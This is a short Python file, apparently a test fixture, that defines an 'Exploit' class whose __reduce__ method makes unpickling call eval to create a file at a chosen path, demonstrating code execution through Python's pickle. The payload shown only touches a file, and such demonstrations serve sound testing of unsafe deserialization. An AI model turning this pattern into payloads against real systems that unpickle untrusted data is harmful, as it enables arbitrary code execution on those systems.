"""A pickle that would run a program."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any


class Exploit:
    """Creates a file when it is unpickled."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self) -> tuple[Callable[[str], Any], tuple[str]]:
        return eval, (f"__import__('pathlib').Path({str(self.target)!r}).touch()",)
